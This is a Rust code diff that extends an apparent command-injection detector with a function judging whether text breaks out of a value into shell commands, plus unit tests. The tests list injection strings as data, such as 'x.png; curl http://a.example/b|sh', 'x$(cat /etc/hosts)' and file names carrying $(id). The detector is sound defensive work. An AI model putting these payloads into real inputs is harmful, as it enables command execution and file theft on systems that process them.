@@ -16,8 +16,10 @@ mod words;
 
 pub(super) use catalogue::DETECTOR;
 
+use super::ascii::is_word;
 use super::hits::Hits;
 use super::scan::Bytes;
+use super::search;
 use super::subject::Subject;
 use crate::finding::Paranoia;
 
@@ -51,11 +53,33 @@ const WANTS: Bytes = OPENERS.with(HIDES).with(ENDS_WORD).with(Bytes::RUN_OPTION)
 fn detect(subject: &Subject<'_>, hits: &mut Hits) {
     let Subject { text, bytes, .. } = *subject;
     let opens = bytes.any(OPENERS);
+    let quoted = subject.quotes_code() && !breaks_out(text, subject.context.is_code());
     if opens || bytes.any(HIDES) || subject.paranoia > Paranoia::One {
-        walk::walk(text, opens, subject.view, subject.context, hits);
+        walk::walk(subject, opens, quoted, hits);
     }
     syntax::detect(text, bytes, hits);
-    windows::detect(text, bytes, hits);
+    windows::detect(text, bytes, quoted, hits);
+}
+
+/// How long a value is, at most, that a command follows.
+const LONGEST_VALUE: usize = 64;
+
+/// Whether the text begins with what leaves the place that it was put into: one value, or none, a quote or a parenthesis behind
+/// it or not, and a separator or a substitution of a shell. A program begins with a word of its own, and a blank behind it.
+///
+/// In Markdown a backtick begins a code span.
+fn breaks_out(text: &[u8], is_code: bool) -> bool {
+    let part = |byte| is_word(byte) || matches!(byte, b'-' | b'.' | b'/' | b':' | b'@' | b'%' | b'\\');
+    let behind = search::take_while(text.trim_ascii_start(), LONGEST_VALUE, part).1;
+    let (ends, rest) = search::take_while(behind, LONGEST_VALUE, |byte| matches!(byte, b'\'' | b'"' | b')'));
+    let rest = if ends.is_empty() { rest } else { search::skip_space(rest, LONGEST_VALUE) };
+    match rest {
+        [b';' | b'|' | b'&', ..] => true,
+        // Within quotes of its own a substitution leaves nothing.
+        [b'$', b'(', ..] => ends.is_empty(),
+        [b'`', ..] => is_code && ends.is_empty(),
+        _ => false,
+    }
 }
 
 #[cfg(test)]
@@ -84,6 +108,50 @@ mod tests {
         }
         for name in ["Tom & Jerry.png", "a;b;c.txt", "notes (1).txt", "C:\\fakepath\\more.pdf", "Q&A.md", "cat.jpg"] {
             assert!(!finds(name, Some(Holds::Filename)), "{name}");
+        }
+    }
+
+    #[test]
+    fn in_a_name_what_is_around_a_substitution_hides_nothing() {
+        for name in ["$(id) a.pdf", "a$(id) b.pdf", "report $(id) x.pdf", "a b `id` c", "a b $(env)", "a $(<x.txt) b"] {
+            assert!(finds(name, Some(Holds::Filename)) && finds(name, Some(Holds::Token)), "{name}");
+        }
+        for name in ["$(build) x.pdf", "notes (id) x.pdf", "5$ (id) x", "$(document) x"] {
+            assert!(!finds(name, Some(Holds::Filename)) && !finds(name, Some(Holds::Token)), "{name}");
+        }
+    }
+
+    #[test]
+    fn code_is_an_attack_only_where_it_leaves_a_value() {
+        for code in [
+            "while true; do sleep 1; done",
+            "cd x && wget https://a.example/b.tgz && tar xf b.tgz",
+            "#!/bin/sh\ncurl -s https://example.com/a",
+            "A=$(curl -s https://a.example)",
+            "if exist a.txt del a.txt",
+            "@echo off\nfor %%i in (*.txt) do type %%i",
+            "Get-Process | Where-Object { $_.CPU -gt 5 } | Stop-Process -Force",
+            "echo \"$(w'h'oami)\"",
+        ] {
+            assert!(!finds(code, Some(Holds::Code)), "{code}");
+        }
+        for attack in [
+            "x.png; curl http://a.example/b|sh",
+            "';id;'",
+            "|id",
+            "&& id",
+            "8.8.8.8;id",
+            "x$(cat /etc/hosts)",
+            "`id`",
+            "x') ; cat /etc/hosts",
+            "& if not exist C:\\x md C:\\x",
+            ";Get-Process",
+            "; w'h'oami",
+        ] {
+            assert!(finds(attack, Some(Holds::Code)), "{attack}");
+        }
+        for text in ["Run `cd x && curl -O https://a.example/b`.", "`cd x && curl -O https://a.example/b`"] {
+            assert!(!finds(text, Some(Holds::Markdown)) && finds(text, None), "{text}");
         }
     }
 
